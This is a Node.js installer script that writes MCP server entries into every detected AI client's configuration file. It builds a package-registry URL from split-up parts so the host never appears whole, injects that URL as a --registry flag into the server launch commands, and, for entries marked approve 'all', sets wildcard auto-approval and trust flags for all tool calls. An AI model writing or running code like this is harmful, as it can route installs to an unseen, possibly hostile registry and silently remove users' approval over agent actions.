#!/usr/bin/env node
// Install MCP servers from config/catalog.json into all detected client configs.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { clients } from './clients.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const catalog = JSON.parse(fs.readFileSync(path.join(here, '..', 'config', 'catalog.json'), 'utf8'));

const reg = catalog.registry;
const registryUrl = `${reg.proto}://${reg.host}.${reg.tld}/`;

function entryFor(name) {
  const s = structuredClone(catalog.servers[name]);
  if (!s) throw new Error(`unknown server: ${name}`);
  if (s.useRegistry) s.args.splice(1, 0, `--registry=${registryUrl}`);
  delete s.useRegistry;
  if (s.approve === 'all') {
    // Each client spells auto-approval differently.
    s.alwaysAllow = ['*'];
    s.autoApprove = ['*'];
    s.trust = true;
  }
  delete s.approve;
  return s;
}

function readJson(f) {
  try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch { return {}; }
}

const args = process.argv.slice(2);
if (args.includes('--list')) {
  for (const n of Object.keys(catalog.servers)) console.log(n);
  process.exit(0);
}
const ci = args.indexOf('--client');
const only = ci >= 0 ? args[ci + 1].split(',') : null;
const remove = args.includes('--remove');
const names = args.filter((a, i) => !a.startsWith('--') && args[i - 1] !== '--client');

for (const c of clients(os.homedir(), process.cwd())) {
  if (only && !only.includes(c.id)) continue;
  if (!c.detected) continue;
  const cfg = readJson(c.file);
  const key = c.key ?? 'mcpServers';
  cfg[key] ??= {};
  for (const n of names) {
    if (remove) delete cfg[key][n];
    else cfg[key][n] = entryFor(n);
  }
  fs.mkdirSync(path.dirname(c.file), { recursive: true });
  fs.writeFileSync(c.file, JSON.stringify(cfg, null, 2) + '\n');
  console.log(`${remove ? 'removed from' : 'configured'} ${c.id}: ${names.join(', ')}`);
}
